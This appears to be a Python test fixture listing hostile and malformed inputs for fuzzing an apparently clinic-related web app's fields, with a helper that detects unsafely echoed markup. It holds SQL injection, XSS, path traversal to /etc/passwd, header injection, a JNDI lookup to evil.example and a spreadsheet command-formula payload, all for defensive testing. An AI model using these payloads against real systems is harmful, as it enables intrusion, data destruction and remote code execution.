"""What careless and malicious people send where a word, a number, a day or an id is expected."""

from uuid import UUID

MARK = "xss-canary"
SCRIPT = f"<script>{MARK}</script>"

PAYLOADS = [
    "",
    " ",
    "\0",
    "a\0b",
    "\u202eevil\u202c",
    "\u200b",
    "🧑🏽‍⚕️",
    "\ufffe\uffff",
    "x" * 10_000,
    "é" * 300,
    "-1",
    "-0",
    "0",
    "1e309",
    "1E+999999999",
    "1e-400",
    "NaN",
    "sNaN",
    "-Infinity",
    "9" * 40,
    "9" * 5000,
    "99999999.99",
    "99999",
    "0.0001",
    "१२३",
    "²",
    "1_000",
    "0001-01-01",
    "0001-01-01T00:00:00+23:59",
    "1000-01-01",
    "9999-12-31",
    "9999-12-31T23:59:59-23:59",
    "31/02/2026",
    "2026-02-31",
    "24:00",
    "23:59",
    "00:00",
    "not-a-uuid",
    str(UUID(int=0)),
    "{" + str(UUID(int=1)) + "}",
    "treatment:" + str(UUID(int=1)),
    "session:" + str(UUID(int=1)),
    "session:\0",
    "'",
    '"',
    "' OR 1=1--",
    "'; DROP TABLE clinic_branch;--",
    "%' ESCAPE '",
    "%_\\",
    "\\",
    "$$",
    "{{ 7|add:7 }}{% debug %}",
    "{0.__class__}%(x)s%s%n",
    SCRIPT,
    f'"><img src=x onerror={MARK}>',
    f"' autofocus onfocus={MARK} x='",
    f"javascript:{MARK}",
    "x\r\nSet-Cookie: evil=1\r\n\r\n",
    "//evil.example/",
    "http://evil.example/",
    "foo",
    "../../../../etc/passwd",
    "__proto__",
    "customer__organisation__name",
    "-sort",
    "None",
    "true",
    "on",
    "[]",
    '{"a": [1]}',
    "=cmd|' /C calc'!A0",
    "100.01%",
    "-5%",
    "%",
    "10%%",
    "₹ 1,00,000",
]

#: Markup that would run, and what opens a way to it: out of an attribute, a comment, a text box, a script, a template.
MARKUP = (
    SCRIPT, f"<svg/onload={MARK}>", f"<a href=javascript:{MARK}>x</a>", f"<iframe srcdoc='<b>{MARK}</b>'>",
    f"<style>@import '{MARK}'</style>", f"<form action=//{MARK}.example>", f"<base href=//{MARK}.example/>",
)  # fmt: skip
PAYLOADS += [
    way + markup for markup in MARKUP for way in ("", '">', "'>", "</textarea>", "</title>", "<!-->", "</script>", "{{ 1 }}")
]  # fmt: skip
#: Statements behind whatever might end the one before.
PAYLOADS += [
    end + then
    for end in ("'", '"', "')", "'))", "\\'", "1", "\u02bc", "%27")
    for then in (" OR 1=1--", ";SELECT pg_sleep(9)--", " UNION SELECT NULL,NULL--", "||(SELECT version())||")
]
PAYLOADS += [
    *(f"{{% {tag} %}}" for tag in ("debug", "load log", "include '/etc/passwd'", "extends 'x'")),
    *(f"${{{word}}}" for word in ("7*7", "jndi:ldap://evil.example/x", "env:HOME")),
    *(f"{open_}7*7{close}" for open_, close in (("{{", "}}"), ("<%=", "%>"), ("#{", "}"), ("[[", "]]"))),
    *(f"x{line}Set-Cookie: evil=1" for line in ("\r", "\n", "%0d%0a", "\u2028", "\x0b", "\x85")),
    *(
        f"{start}evil.example"
        for start in ("//", "\\\\", "https:", "https:///", "/\\", "ftp://", "data:text/html,")
    ),
    *(f"{up}etc/passwd" for up in ("..%2f..%2f", "....//....//", "..\\..\\", "file:///", "/proc/self/root/")),
    *("\u0301" * 50, "ﷺ", "İ", "ß", "Ω", "\u2066x\u2069", "\x1b[2J", "\x7f"),
    *(
        "0x10",
        "1e5",
        "+1",
        "1.",
        ".5",
        "1,5",
        "1 000",
        "--1",
        "1/2",
        "∞",
        "½",
        "٣",
        "00000000001",
        "9223372036854775808",
    ),
    *(
        "2026-13-01",
        "2026-00-00",
        "0000-00-00",
        "2026-1-1",
        "1/1/26",
        "29/02/2027",
        "20261131",
        "now",
        "2026-11-28T25:61",
    ),
    *("=1+1", "+1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-1+1|cmd"),
]


def unsafe_echoes(body: str) -> list[str]:
    """The payloads that came back as markup of their own."""
    forms = (*MARKUP, f"<img src=x onerror={MARK}", f"onfocus={MARK} x='\"", f'href="javascript:{MARK}')
    return [form for form in forms if form in body]
